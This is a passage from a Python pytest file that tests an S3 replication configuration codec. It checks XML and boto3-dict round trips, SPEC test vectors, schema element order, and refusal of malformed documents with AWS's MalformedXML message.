"""The replication configuration codec: lossless round trips, AWS's schema errors, safe XML.

Expected values come from SPEC.md (sections 2 and 11.1, the vectors in
``tests/vectors/configuration_api.toml``) and botocore's service model, never from the
codec's own output.
"""

from __future__ import annotations

import json
import time
import tomllib
import xml.etree.ElementTree as ET
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from s3repl.codec import (
    MAX_DOCUMENT_BYTES,
    S3_NAMESPACE,
    replication_from_dict,
    replication_from_xml,
    replication_to_dict,
    replication_to_xml,
)
from s3repl.errors import MalformedXML
from s3repl.model import (
    AccessControlTranslation,
    AndOperator,
    Destination,
    EncryptionConfiguration,
    Filter,
    Metrics,
    NotOperator,
    OrOperator,
    ReplicationConfiguration,
    ReplicationRule,
    ReplicationTime,
    SourceSelectionCriteria,
    Status,
    StorageClass,
    Tag,
)
from s3repl.testing.strategies import replication_configurations

MESSAGE = (
    "The XML you provided was not well-formed or did not validate against our published schema"
)
ROLE = "arn:aws:iam::123456789012:role/repl"
NS = f' xmlns="{S3_NAMESPACE}"'
VECTORS = {
    v["id"]: v
    for v in tomllib.loads(
        (Path(__file__).parent / "vectors" / "configuration_api.toml").read_text("utf-8")
    )["vector"]
}


def doc(rules: str, *, role: str = f"<Role>{ROLE}</Role>", ns: str = NS) -> str:
    """A ReplicationConfiguration document around ``rules``."""
    return f"<ReplicationConfiguration{ns}>{role}{rules}</ReplicationConfiguration>"


def v2_rule(
    inner: str = "",
    *,
    filter_: str = "<Filter/>",
    status: str = "Enabled",
    dest: str = "<Bucket>arn:aws:s3:::dst</Bucket>",
) -> str:
    """A V2 rule element: priority 1, delete markers disabled, extra ``inner`` members."""
    return (
        f"<Rule><ID>r</ID><Priority>1</Priority>{filter_}<Status>{status}</Status>{inner}"
        f"<Destination>{dest}</Destination>"
        "<DeleteMarkerReplication><Status>Disabled</Status></DeleteMarkerReplication></Rule>"
    )


def v2_dict(**extra: Any) -> dict[str, Any]:
    """A V2 rule in boto3's shape, with members overridden by ``extra``."""
    rule: dict[str, Any] = {
        "ID": "r",
        "Priority": 1,
        "Filter": {},
        "Status": "Enabled",
        "Destination": {"Bucket": "arn:aws:s3:::dst"},
        "DeleteMarkerReplication": {"Status": "Disabled"},
    }
    rule.update(extra)
    return rule


def rule_of(config: ReplicationConfiguration) -> ReplicationRule:
    """The only rule of ``config``."""
    (rule,) = config.rules
    return rule


def plain_rule(**fields: Any) -> ReplicationRule:
    """A V2 rule like :func:`v2_rule`, as a model value."""
    values: dict[str, Any] = {
        "id": "r",
        "priority": 1,
        "filter": Filter(),
        "status": Status.ENABLED,
        "destination": Destination(bucket="arn:aws:s3:::dst"),
        "delete_marker_replication": Status.DISABLED,
    }
    values.update(fields)
    return ReplicationRule(**values)


# --------------------------------------------------------------------------- round trips


@given(replication_configurations(not_or=True))
def test_xml_round_trip_is_identity(config: ReplicationConfiguration) -> None:
    """Model -> XML -> model is the identity for valid configurations (R-020..R-026)."""
    assert replication_from_xml(replication_to_xml(config)) == config


@given(replication_configurations(not_or=True))
def test_dict_round_trip_is_identity(config: ReplicationConfiguration) -> None:
    """Model -> boto3 dict -> JSON -> model is the identity (R-020..R-026, boto3 shape)."""
    as_json = json.loads(json.dumps(replication_to_dict(config)))
    assert replication_from_dict(as_json) == config


@given(replication_configurations(not_or=True))
def test_xml_and_dict_forms_agree(config: ReplicationConfiguration) -> None:
    """The XML and dict forms of one configuration decode alike and re-encode alike (R-020)."""
    text = replication_to_xml(config)
    as_dict = replication_to_dict(config)
    assert replication_from_xml(text) == replication_from_dict(as_dict)
    assert replication_to_dict(replication_from_xml(text)) == as_dict
    assert replication_to_xml(replication_from_dict(as_dict)) == text


# Schema-valid but semantically wrong values (validate's job to refuse) round-trip too.
_TEXT = st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Co", "Cn")))
_RAW_TEXT = st.one_of(_TEXT, st.sampled_from(["", " ", " a\r\n", "\t<&>\"'", "]]>"]))
_INTS = st.integers(min_value=-(2**31), max_value=2**31 - 1)
_STATUS = st.sampled_from(Status)
_TAGS = st.builds(Tag, key=_RAW_TEXT.filter(bool), value=_RAW_TEXT)
_OR = st.builds(
    OrOperator, prefixes=st.lists(_RAW_TEXT, max_size=3), tags=st.lists(_TAGS, max_size=3)
)
_NOT = st.one_of(
    st.builds(NotOperator, prefix=_RAW_TEXT),
    st.builds(NotOperator, tag=_TAGS),
    st.builds(NotOperator, or_=_OR),
)
_AND = st.builds(
    AndOperator,
    prefix=st.none() | _RAW_TEXT,
    tags=st.lists(_TAGS, max_size=3),
    not_=st.none() | _NOT,
)
_FILTERS = st.one_of(
    st.just(Filter()),
    st.builds(Filter, prefix=_RAW_TEXT),
    st.builds(Filter, tag=_TAGS),
    st.builds(Filter, and_=_AND),
    st.builds(Filter, not_=_NOT),
)
_DESTINATIONS = st.builds(
    Destination,
    bucket=_RAW_TEXT,
    account=st.none() | _RAW_TEXT,
    storage_class=st.none() | st.sampled_from(StorageClass),
    access_control_translation=st.none() | st.just(AccessControlTranslation()),
    encryption_configuration=st.none()
    | st.builds(
        EncryptionConfiguration,
        replica_kms_key_id=st.none() | _RAW_TEXT,
        use_source_multi_region_key=st.none() | _STATUS,
    ),
    replication_time=st.none() | st.builds(ReplicationTime, status=_STATUS, minutes=_INTS),
    metrics=st.none()
    | st.builds(Metrics, status=_STATUS, event_threshold_minutes=st.none() | _INTS),
)
_RULE_MEMBERS = st.fixed_dictionaries(
    {
        "destination": _DESTINATIONS,
        "status": _STATUS,
        "id": st.none() | _RAW_TEXT,
        "priority": st.none() | _INTS,
        "source_selection_criteria": st.none()
        | st.builds(
            SourceSelectionCriteria,
            sse_kms_encrypted_objects=st.none() | _STATUS,
            replica_modifications=st.none() | _STATUS,
        ),
        "existing_object_replication": st.none() | _STATUS,
        "delete_marker_replication": st.none() | _STATUS,
    }
)
_PREFIX_OR_FILTER = st.one_of(
    st.fixed_dictionaries({"prefix": _RAW_TEXT}),
    st.fixed_dictionaries({"filter": _FILTERS}),
)
_ANY_RULES = st.builds(
    lambda members, selection: ReplicationRule(**members, **selection),
    _RULE_MEMBERS,
    _PREFIX_OR_FILTER,
)
#: Any configuration the model can hold, including ones validate refuses.
SCHEMA_VALID_CONFIGURATIONS = st.builds(
    ReplicationConfiguration, role=_RAW_TEXT, rules=st.lists(_ANY_RULES, min_size=1, max_size=3)
)


@given(SCHEMA_VALID_CONFIGURATIONS)
def test_round_trips_keep_what_validate_refuses(config: ReplicationConfiguration) -> None:
    """Values only validate refuses (no Priority, EOR, empty SSC, Minutes 10, odd text) round-trip.

    R-045 vs R-026/R-028/R-031/R-033/R-034: the codec checks the schema only, so
    ``s3repl.validate`` sees exactly what the user sent.
    """
    assert replication_from_xml(replication_to_xml(config)) == config
    assert replication_from_dict(replication_to_dict(config)) == config


@pytest.mark.parametrize(
    ("filter_xml", "expected"),
    [
        ("<Filter><And/></Filter>", Filter(and_=AndOperator())),
        ("<Filter><And><Prefix>a</Prefix></And></Filter>", Filter(and_=AndOperator(prefix="a"))),
        ("<Filter><Not><Or/></Not></Filter>", Filter(not_=NotOperator(or_=OrOperator()))),
        ("<Filter><Prefix/></Filter>", Filter(prefix="")),
    ],
)
def test_sparse_operators_decode_and_round_trip(filter_xml: str, expected: Filter) -> None:
    """Empty or one-member ``And`` / ``Or`` are schema-valid and kept as sent (R-022, R-023)."""
    config = replication_from_xml(doc(v2_rule(filter_=filter_xml)))
    assert rule_of(config).filter == expected
    assert replication_from_xml(replication_to_xml(config)) == config
    assert replication_from_dict(replication_to_dict(config)) == config


# --------------------------------------------------------------------------- SPEC vectors

T09_XML = f"""<?xml version="1.0" encoding="UTF-8"?>
<ReplicationConfiguration{NS}>
  <Role>{ROLE}</Role>
  <Rule>
    <ID>t09</ID>
    <Priority>0</Priority>
    <Filter/>
    <Status>Disabled</Status>
    <Destination>
      <Bucket>arn:aws:s3:::dst</Bucket>
      <StorageClass>STANDARD</StorageClass>
      <ReplicationTime><Status>Enabled</Status><Time><Minutes>15</Minutes></Time></ReplicationTime>
      <Metrics><Status>Enabled</Status><EventThreshold><Minutes>15</Minutes></EventThreshold></Metrics>
    </Destination>
    <DeleteMarkerReplication><Status>Disabled</Status></DeleteMarkerReplication>
  </Rule>
</ReplicationConfiguration>
"""
T09_MODEL = ReplicationConfiguration(
    role=ROLE,
    rules=[
        ReplicationRule(
            id="t09",
            priority=0,
            filter=Filter(),
            status=Status.DISABLED,
            destination=Destination(
                bucket="arn:aws:s3:::dst",
                storage_class=StorageClass.STANDARD,
                replication_time=ReplicationTime(status=Status.ENABLED, minutes=15),
                metrics=Metrics(status=Status.ENABLED, event_threshold_minutes=15),
            ),
            delete_marker_replication=Status.DISABLED,
        )
    ],
)


def test_t09_empty_filter_priority_zero_rtc_and_metrics_decode() -> None:
    """T-09's rule (empty Filter, Priority 0, RTC + metrics 15) decodes as sent (R-023, R-028)."""
    assert replication_from_xml(T09_XML) == T09_MODEL


def test_t09_empty_filter_survives_both_encodings() -> None:
    """T-09's empty filter is written back: ``<Filter/>`` and ``"Filter": {}`` (R-023, R-053)."""
    text = replication_to_xml(T09_MODEL)
    filters = ET.fromstring(text).findall(f"{{{S3_NAMESPACE}}}Rule/{{{S3_NAMESPACE}}}Filter")
    assert len(filters) == 1
    assert list(filters[0]) == []
    assert not (filters[0].text or "").strip()
    assert replication_to_dict(T09_MODEL)["Rules"][0]["Filter"] == {}
    assert replication_from_xml(text) == T09_MODEL


def test_t09_dict_form_decodes_like_the_xml() -> None:
    """T-09 in the AWS CLI's JSON shape decodes to the same value as its XML (R-020, R-023)."""
    cli_output = {
        "ReplicationConfiguration": {
            "Role": ROLE,
            "Rules": [
                {
                    "ID": "t09",
                    "Priority": 0,
                    "Filter": {},
                    "Status": "Disabled",
                    "Destination": {
                        "Bucket": "arn:aws:s3:::dst",
                        "StorageClass": "STANDARD",
                        "ReplicationTime": {"Status": "Enabled", "Time": {"Minutes": 15}},
                        "Metrics": {"Status": "Enabled", "EventThreshold": {"Minutes": 15}},
                    },
                    "DeleteMarkerReplication": {"Status": "Disabled"},
                }
            ],
        }
    }
    assert replication_from_dict(cli_output) == T09_MODEL


def test_t05_zero_rules_is_malformed_xml_with_aws_message() -> None:
    """T-05: ``Rules: []`` is ``MalformedXML`` 400 with AWS's exact message (R-045, OBS)."""
    vector = VECTORS["T-05"]
    with pytest.raises(MalformedXML) as caught:
        replication_from_dict({"Role": ROLE, "Rules": []})
    assert caught.value.code == vector["code"]
    assert caught.value.http_status == vector["http_status"]
    assert caught.value.message == vector["message"]
    assert caught.value.element == "ReplicationConfiguration/Rule"


def test_t05_zero_rules_in_xml_is_malformed_xml() -> None:
    """T-05 in XML: a configuration without any ``Rule`` is ``MalformedXML`` (R-020, R-045)."""
    with pytest.raises(MalformedXML) as caught:
        replication_from_xml(doc(""))
    assert caught.value.message == VECTORS["T-05"]["message"]
    assert caught.value.element == "ReplicationConfiguration/Rule"


@pytest.mark.parametrize("form", ["xml", "dict"])
def test_t33_lower_case_status_is_malformed_xml(form: str) -> None:
    """T-33: ``Status: enabled`` (lower case) is ``MalformedXML`` 400: enums are exact (R-045)."""
    vector = VECTORS["T-33"]
    decode: Callable[[], object] = {
        "xml": lambda: replication_from_xml(doc(v2_rule(status="enabled"))),
        "dict": lambda: replication_from_dict({"Role": ROLE, "Rules": [v2_dict(Status="enabled")]}),
    }[form]
    with pytest.raises(MalformedXML) as caught:
        decode()
    assert (caught.value.code, caught.value.http_status) == (vector["code"], vector["http_status"])
    assert caught.value.message == vector["message"]
    assert caught.value.element == "ReplicationConfiguration/Rule[1]/Status"


# Documents that are schema-valid but semantically refused by validate: decoded faithfully.
FAITHFUL = [
    pytest.param(
        v2_rule().replace("<ID>r</ID>", ""),
        {"id": None},
        id="T-10 no ID",
    ),
    pytest.param(
        v2_rule(filter_="<Filter><Prefix>Tax</Prefix></Filter>").replace(
            "<DeleteMarkerReplication><Status>Disabled</Status></DeleteMarkerReplication>", ""
        ),
        {"filter": Filter(prefix="Tax"), "delete_marker_replication": None},
        id="T-11 V2 without DeleteMarkerReplication",
    ),
    pytest.param(
        v2_rule().replace("<Priority>1</Priority>", ""),
        {"priority": None},
        id="T-12 V2 without Priority",
    ),
    pytest.param(
        v2_rule("<SourceSelectionCriteria/>"),
        {"source_selection_criteria": SourceSelectionCriteria()},
        id="T-21 empty SourceSelectionCriteria",
    ),
    pytest.param(
        v2_rule("<ExistingObjectReplication><Status>Enabled</Status></ExistingObjectReplication>"),
        {"existing_object_replication": Status.ENABLED},
        id="T-22 ExistingObjectReplication",
    ),
    pytest.param(
        v2_rule().replace("<ID>r</ID>", f"<ID>{'x' * 256}</ID>"),
        {"id": "x" * 256},
        id="T-32 256-character ID",
    ),
    pytest.param(
        v2_rule(
            dest="<Bucket>arn:aws:s3:::dst</Bucket>"
            "<ReplicationTime><Status>Enabled</Status><Time><Minutes>10</Minutes></Time>"
            "</ReplicationTime><Metrics><Status>Enabled</Status></Metrics>"
        ),
        {
            "destination": Destination(
                bucket="arn:aws:s3:::dst",
                replication_time=ReplicationTime(status=Status.ENABLED, minutes=10),
                metrics=Metrics(status=Status.ENABLED),
            )
        },
        id="T-20 RTC Minutes 10",
    ),
    pytest.param(
        v2_rule(
            filter_="<Filter><Tag><Key>k</Key><Value>v</Value></Tag></Filter>",
        ).replace("<Status>Disabled</Status></Dele", "<Status>Enabled</Status></Dele"),
        {
            "filter": Filter(tag=Tag(key="k", value="v")),
            "delete_marker_replication": Status.ENABLED,
        },
        id="T-23 tag filter with delete markers",
    ),
    pytest.param(
        v2_rule(
            dest="<Bucket>arn:aws:s3:::dst</Bucket><AccessControlTranslation>"
            "<Owner>Destination</Owner></AccessControlTranslation>"
        ),
        {
            "destination": Destination(
                bucket="arn:aws:s3:::dst", access_control_translation=AccessControlTranslation()
            )
        },
        id="T-25 owner override without Account",
    ),
]


@pytest.mark.parametrize(("rule_xml", "changes"), FAITHFUL)
def test_semantic_errors_decode_faithfully(rule_xml: str, changes: dict[str, Any]) -> None:
    """Schema-valid documents that validate refuses decode as written (T-10..T-32, R-045 scope)."""
    assert rule_of(replication_from_xml(doc(rule_xml))) == plain_rule(**changes)


def test_v1_rule_with_delete_marker_replication_decodes() -> None:
    """T-13's V1 rule with ``DeleteMarkerReplication`` decodes; validate answers R-035."""
    rule_xml = (
        "<Rule><ID>v1</ID><Prefix>logs/</Prefix><Status>Enabled</Status>"
        "<Destination><Bucket>arn:aws:s3:::dst</Bucket></Destination>"
        "<DeleteMarkerReplication><Status>Enabled</Status></DeleteMarkerReplication></Rule>"
    )
    assert rule_of(replication_from_xml(doc(rule_xml))) == ReplicationRule(
        id="v1",
        prefix="logs/",
        status=Status.ENABLED,
        destination=Destination(bucket="arn:aws:s3:::dst"),
        delete_marker_replication=Status.ENABLED,
    )


def test_t31_more_than_a_thousand_rules_decode() -> None:
    """T-31: 1,001 rules are schema-valid; the limit (R-020, R-046) is validate's to report."""
    rules = [v2_dict(ID=f"r{i}", Priority=i) for i in range(1001)]
    config = replication_from_dict({"Role": ROLE, "Rules": rules})
    assert len(config.rules) == 1001
    assert config.rules[-1].priority == 1000


def test_t29_three_rules_keep_their_order_and_members() -> None:
    """T-29's three rules (priorities 1..3, storage classes) decode in document order (R-063)."""
    classes = ["STANDARD", "STANDARD_IA", "ONEZONE_IA"]
    rules = "".join(
        v2_rule(dest=f"<Bucket>arn:aws:s3:::d{i}</Bucket><StorageClass>{c}</StorageClass>")
        .replace("<Priority>1</Priority>", f"<Priority>{i}</Priority>")
        .replace("<ID>r</ID>", f"<ID>r{i}</ID>")
        .replace(
            "<Status>Enabled</Status><Dest",
            f"<Status>{'Disabled' if i == 3 else 'Enabled'}</Status><Dest",
        )
        for i, c in zip((1, 2, 3), classes, strict=True)
    )
    config = replication_from_xml(doc(rules))
    assert [r.priority for r in config.rules] == [1, 2, 3]
    assert [r.destination.storage_class for r in config.rules] == [
        StorageClass.STANDARD,
        StorageClass.STANDARD_IA,
        StorageClass.ONEZONE_IA,
    ]
    assert [r.status for r in config.rules] == [Status.ENABLED, Status.ENABLED, Status.DISABLED]


AWS_DOC_EXAMPLE = """<?xml version="1.0" encoding="UTF-8"?>
<ReplicationConfiguration>
  <Role>arn:aws:iam::123456789012:role/s3-replication</Role>
  <Rule>
    <ID>Tax</ID>
    <Status>Enabled</Status>
    <Priority>2</Priority>
    <DeleteMarkerReplication><Status>Disabled</Status></DeleteMarkerReplication>
    <Filter>
      <And>
        <Prefix>Tax/</Prefix>
        <Tag><Key>tagA</Key><Value>valueA</Value></Tag>
        <Tag><Key>tagB</Key><Value>valueB</Value></Tag>
      </And>
    </Filter>
    <SourceSelectionCriteria>
      <SseKmsEncryptedObjects><Status>Enabled</Status></SseKmsEncryptedObjects>
      <ReplicaModifications><Status>Enabled</Status></ReplicaModifications>
    </SourceSelectionCriteria>
    <Destination>
      <Bucket>arn:aws:s3:::dst</Bucket>
      <Account>210987654321</Account>
      <StorageClass>STANDARD_IA</StorageClass>
      <AccessControlTranslation><Owner>Destination</Owner></AccessControlTranslation>
      <EncryptionConfiguration>
        <ReplicaKmsKeyID>arn:aws:kms:eu-west-1:210987654321:key/k</ReplicaKmsKeyID>
        <UseSourceMultiRegionKey><Status>Disabled</Status></UseSourceMultiRegionKey>
      </EncryptionConfiguration>
    </Destination>
  </Rule>
  <Rule>
    <Status>Enabled</Status>
    <Priority>1</Priority>
    <DeleteMarkerReplication><Status>Enabled</Status></DeleteMarkerReplication>
    <Filter><Not><Or><Prefix>tmp/</Prefix><Prefix>cache/</Prefix>
      <Tag><Key>skip</Key><Value>yes</Value></Tag></Or></Not></Filter>
    <Destination><Bucket>arn:aws:s3:::dst2</Bucket></Destination>
  </Rule>
</ReplicationConfiguration>
"""


def test_pretty_printed_document_without_namespace_decodes() -> None:
    """A pretty-printed, namespace-less document, members in any order, decodes (R-021..R-026)."""
    config = replication_from_xml(AWS_DOC_EXAMPLE)
    assert config == ReplicationConfiguration(
        role="arn:aws:iam::123456789012:role/s3-replication",
        rules=[
            ReplicationRule(
                id="Tax",
                status=Status.ENABLED,
                priority=2,
                delete_marker_replication=Status.DISABLED,
                filter=Filter(
                    and_=AndOperator(
                        prefix="Tax/",
                        tags=[Tag(key="tagA", value="valueA"), Tag(key="tagB", value="valueB")],
                    )
                ),
                source_selection_criteria=SourceSelectionCriteria(
                    sse_kms_encrypted_objects=Status.ENABLED,
                    replica_modifications=Status.ENABLED,
                ),
                destination=Destination(
                    bucket="arn:aws:s3:::dst",
                    account="210987654321",
                    storage_class=StorageClass.STANDARD_IA,
                    access_control_translation=AccessControlTranslation(),
                    encryption_configuration=EncryptionConfiguration(
                        replica_kms_key_id="arn:aws:kms:eu-west-1:210987654321:key/k",
                        use_source_multi_region_key=Status.DISABLED,
                    ),
                ),
            ),
            ReplicationRule(
                status=Status.ENABLED,
                priority=1,
                delete_marker_replication=Status.ENABLED,
                filter=Filter(
                    not_=NotOperator(
                        or_=OrOperator(
                            prefixes=["tmp/", "cache/"], tags=[Tag(key="skip", value="yes")]
                        )
                    )
                ),
                destination=Destination(bucket="arn:aws:s3:::dst2"),
            ),
        ],
    )


def test_namespace_is_optional_on_input_and_always_written() -> None:
    """Input may omit the S3 namespace; output always carries it (R-020)."""
    with_ns = AWS_DOC_EXAMPLE.replace(
        "<ReplicationConfiguration>", f"<ReplicationConfiguration{NS}>"
    )
    assert replication_from_xml(with_ns) == replication_from_xml(AWS_DOC_EXAMPLE)
    assert ET.fromstring(replication_to_xml(replication_from_xml(AWS_DOC_EXAMPLE))).tag == (
        f"{{{S3_NAMESPACE}}}ReplicationConfiguration"
    )


def test_output_elements_follow_the_schema_order() -> None:
    """Output lists members in the S3 schema's order, whatever the input order (R-021, R-025)."""
    root = ET.fromstring(replication_to_xml(replication_from_xml(AWS_DOC_EXAMPLE)))
    q = f"{{{S3_NAMESPACE}}}"
    rule = root.findall(f"{q}Rule")[0]
    assert [child.tag.removeprefix(q) for child in root] == ["Role", "Rule", "Rule"]
    assert [child.tag.removeprefix(q) for child in rule] == [
        "ID",
        "Priority",
        "Filter",
        "Status",
        "SourceSelectionCriteria",
        "Destination",
        "DeleteMarkerReplication",
    ]
    destination = rule.find(f"{q}Destination")
    assert destination is not None
    assert [child.tag.removeprefix(q) for child in destination] == [
        "Bucket",
        "Account",
        "StorageClass",
        "AccessControlTranslation",
        "EncryptionConfiguration",
    ]
    and_ = rule.find(f"{q}Filter/{q}And")
    assert and_ is not None
    assert [child.tag.removeprefix(q) for child in and_] == ["Prefix", "Tag", "Tag"]


def test_dict_output_uses_botocore_member_names() -> None:
    """The dict form uses botocore's member names (``Rules``, ``Tags``, ``Prefixes``; R-022)."""
    as_dict = replication_to_dict(replication_from_xml(AWS_DOC_EXAMPLE))
    first, second = as_dict["Rules"]
    assert first["Filter"]["And"]["Tags"] == [
        {"Key": "tagA", "Value": "valueA"},
        {"Key": "tagB", "Value": "valueB"},
    ]
    assert first["Destination"]["EncryptionConfiguration"] == {
        "ReplicaKmsKeyID": "arn:aws:kms:eu-west-1:210987654321:key/k",
        "UseSourceMultiRegionKey": {"Status": "Disabled"},
    }
    assert second["Filter"] == {
        "Not": {"Or": {"Prefixes": ["tmp/", "cache/"], "Tags": [{"Key": "skip", "Value": "yes"}]}}
    }
    assert "ID" not in second


def test_prefix_whitespace_and_empty_values_are_kept() -> None:
    """Prefixes keep surrounding spaces and CR; ``<Prefix></Prefix>`` is ``""`` (R-023, R-060)."""
    rules = v2_rule(filter_="<Filter><Prefix> a b&#13;\n</Prefix></Filter>") + v2_rule(
        filter_="<Filter><Prefix></Prefix></Filter>"
    ).replace("<Priority>1<", "<Priority>2<")
    config = replication_from_xml(doc(rules))
    assert [r.filter.prefix for r in config.rules if r.filter] == [" a b\r\n", ""]
    assert replication_from_xml(replication_to_xml(config)) == config


def test_cli_and_boto3_response_wrappers_are_accepted() -> None:
    """The CLI's ``{"ReplicationConfiguration": ...}`` and boto3 responses decode (R-053)."""
    inner = {"Role": ROLE, "Rules": [v2_dict()]}
    expected = ReplicationConfiguration(role=ROLE, rules=[plain_rule()])
    assert replication_from_dict(inner) == expected
    assert replication_from_dict({"ReplicationConfiguration": inner}) == expected
    assert (
        replication_from_dict(
            {"ReplicationConfiguration": inner, "ResponseMetadata": {"HTTPStatusCode": 200}}
        )
        == expected
    )


def test_bytes_input_and_byte_order_mark_are_accepted() -> None:
    """UTF-8 bytes, with or without a byte order mark, decode like text (R-020)."""
    text = doc(v2_rule(filter_="<Filter><Prefix>café/</Prefix></Filter>"))
    expected = replication_from_xml(text)
    assert expected.rules[0].key_prefix == "café/"
    assert replication_from_xml(text.encode()) == expected
    assert replication_from_xml(b"\xef\xbb\xbf" + text.encode()) == expected


# --------------------------------------------------------------------------- malformed input

R1 = "ReplicationConfiguration/Rule[1]"

MALFORMED_XML = [
    pytest.param(doc(v2_rule())[:-30], "ReplicationConfiguration", id="truncated"),
    pytest.param("", "ReplicationConfiguration", id="empty document"),
    pytest.param(
        doc(v2_rule(), ns=' xmlns="http://s3.amazonaws.com/doc/2006-03-02/"'),
        "ReplicationConfiguration",
        id="wrong namespace",
    ),
    pytest.param(
        doc(v2_rule()).replace("ReplicationConfiguration", "LifecycleConfiguration"),
        "ReplicationConfiguration",
        id="wrong root",
    ),
    pytest.param(doc(v2_rule("<Foo>1</Foo>")), f"{R1}/Foo", id="unknown element"),
    pytest.param(
        doc(v2_rule('<x:Status xmlns:x="urn:x">Enabled</x:Status>')),
        f"{R1}/urn:x:Status",
        id="element in a foreign namespace",
    ),
    pytest.param(
        doc(v2_rule().replace("<Rule>", '<Rule id="1">')), f"{R1}/@id", id="unknown attribute"
    ),
    pytest.param(
        doc(
            v2_rule().replace(
                "<Status>Enabled</Status>", "<Status>Enabled</Status><Status>Enabled</Status>"
            )
        ),
        f"{R1}/Status",
        id="repeated element",
    ),
    pytest.param(doc(v2_rule(status="enabled")), f"{R1}/Status", id="T-33 status lower case"),
    pytest.param(doc(v2_rule(status="")), f"{R1}/Status", id="empty status"),
    pytest.param(
        doc(v2_rule(dest="<Bucket>arn:aws:s3:::d</Bucket><StorageClass>standard</StorageClass>")),
        f"{R1}/Destination/StorageClass",
        id="bad storage class",
    ),
    pytest.param(
        doc(
            v2_rule(
                dest="<Bucket>arn:aws:s3:::d</Bucket><Account>1</Account>"
                "<AccessControlTranslation><Owner>Source</Owner></AccessControlTranslation>"
            )
        ),
        f"{R1}/Destination/AccessControlTranslation/Owner",
        id="bad owner",
    ),
    pytest.param(
        doc(v2_rule().replace("<Priority>1<", "<Priority>abc<")),
        f"{R1}/Priority",
        id="Priority abc",
    ),
    pytest.param(
        doc(v2_rule().replace("<Priority>1<", "<Priority>1.5<")),
        f"{R1}/Priority",
        id="Priority 1.5",
    ),
    pytest.param(
        doc(v2_rule().replace("<Priority>1<", "<Priority>2147483648<")),
        f"{R1}/Priority",
        id="Priority beyond xs:int",
    ),
    pytest.param(
        doc(v2_rule().replace("<Priority>1</Priority>", "<Priority/>")),
        f"{R1}/Priority",
        id="empty Priority",
    ),
    pytest.param(
        doc(
            v2_rule(
                dest="<Bucket>arn:aws:s3:::d</Bucket><ReplicationTime><Status>Enabled</Status>"
                "<Time><Minutes>fifteen</Minutes></Time></ReplicationTime>"
            )
        ),
        f"{R1}/Destination/ReplicationTime/Time/Minutes",
        id="Minutes not an integer",
    ),
    pytest.param(doc(v2_rule(), role=""), "ReplicationConfiguration/Role", id="missing Role"),
    pytest.param(
        doc(v2_rule().replace("<Status>Enabled</Status><Dest", "<Dest")),
        f"{R1}/Status",
        id="missing Status",
    ),
    pytest.param(
        doc(v2_rule().replace("<Destination><Bucket>arn:aws:s3:::dst</Bucket></Destination>", "")),
        f"{R1}/Destination",
        id="missing Destination",
    ),
    pytest.param(
        doc(v2_rule(dest="<Account>1</Account>")), f"{R1}/Destination/Bucket", id="missing Bucket"
    ),
    pytest.param(
        doc(v2_rule(filter_="<Filter><Tag><Key>k</Key></Tag></Filter>")),
        f"{R1}/Filter/Tag/Value",
        id="Tag without Value",
    ),
    pytest.param(
        doc(v2_rule(filter_="<Filter><Tag><Key></Key><Value>v</Value></Tag></Filter>")),
        f"{R1}/Filter/Tag",
        id="Tag with empty Key",
    ),
    pytest.param(
        doc(
            v2_rule(
                filter_="<Filter><Prefix>a</Prefix><Tag><Key>k</Key><Value>v</Value></Tag></Filter>"
            )
        ),
        f"{R1}/Filter",
        id="Filter with two children",
    ),
    pytest.param(
        doc(
            v2_rule(
                filter_="<Filter><And><Tag><Key>k</Key><Value>v</Value></Tag><Not/></And></Filter>"
            )
        ),
        f"{R1}/Filter/And/Not",
        id="empty Not",
    ),
    pytest.param(
        doc(v2_rule(filter_="<Filter><Not><Prefix>a</Prefix><Prefix>b</Prefix></Not></Filter>")),
        f"{R1}/Filter/Not/Prefix",
        id="Not with two prefixes",
    ),
    pytest.param(
        doc(v2_rule(filter_="<Filter><And><Or><Prefix>a</Prefix></Or></And></Filter>")),
        f"{R1}/Filter/And/Or",
        id="Or outside Not",
    ),
    pytest.param(
        doc(v2_rule(filter_="<Filter/><Prefix>a</Prefix>")), R1, id="rule with Prefix and Filter"
    ),
    pytest.param(doc(v2_rule(filter_="")), R1, id="rule with neither Prefix nor Filter"),
    pytest.param(
        doc(v2_rule(filter_="<Filter>a</Filter>")), f"{R1}/Filter", id="text in a container"
    ),
    pytest.param(
        doc(v2_rule(filter_="<Filter>a<Prefix>b</Prefix></Filter>")),
        f"{R1}/Filter",
        id="mixed content",
    ),
    pytest.param(
        doc(v2_rule(filter_="<Filter><Prefix><B/></Prefix></Filter>")),
        f"{R1}/Filter/Prefix",
        id="element inside a value",
    ),
    pytest.param(
        doc(
            v2_rule().replace(
                "<DeleteMarkerReplication><Status>Disabled</Status>", "<DeleteMarkerReplication>"
            )
        ),
        f"{R1}/DeleteMarkerReplication/Status",
        id="DeleteMarkerReplication without Status (INF)",
    ),
    pytest.param(
        doc(
            v2_rule(
                dest="<Bucket>arn:aws:s3:::d</Bucket><ReplicationTime><Status>Enabled</Status>"
                "<Time/></ReplicationTime>"
            )
        ),
        f"{R1}/Destination/ReplicationTime/Time/Minutes",
        id="Time without Minutes (INF)",
    ),
    pytest.param(
        doc(
            v2_rule("<SourceSelectionCriteria><SseKmsEncryptedObjects/></SourceSelectionCriteria>")
        ),
        f"{R1}/SourceSelectionCriteria/SseKmsEncryptedObjects/Status",
        id="SseKmsEncryptedObjects without Status",
    ),
    pytest.param(
        doc(v2_rule() + v2_rule(status="Paused")),
        "ReplicationConfiguration/Rule[2]/Status",
        id="second rule named by index",
    ),
    pytest.param(
        doc(v2_rule(filter_="<Filter><Prefix>café</Prefix></Filter>")).encode("latin-1"),
        "ReplicationConfiguration",
        id="not UTF-8 bytes",
    ),
]


@pytest.mark.parametrize(("text", "element"), MALFORMED_XML)
def test_malformed_xml_is_refused_with_aws_message_and_path(
    text: str | bytes, element: str
) -> None:
    """Schema and syntax errors: ``MalformedXML``, AWS's exact text, path named (R-045, T-33)."""
    with pytest.raises(MalformedXML) as caught:
        replication_from_xml(text)
    err = caught.value
    assert err.message == MESSAGE
    assert (err.code, err.http_status) == ("MalformedXML", 400)
    assert err.element == element
    assert element in str(err)


MALFORMED_DICTS = [
    pytest.param({"Role": ROLE, "Rules": {}}, "ReplicationConfiguration/Rule", id="Rules a dict"),
    pytest.param(
        {"Role": ROLE, "Rules": "r"}, "ReplicationConfiguration/Rule", id="Rules a string"
    ),
    pytest.param({"Rules": [v2_dict()]}, "ReplicationConfiguration/Role", id="missing Role"),
    pytest.param(
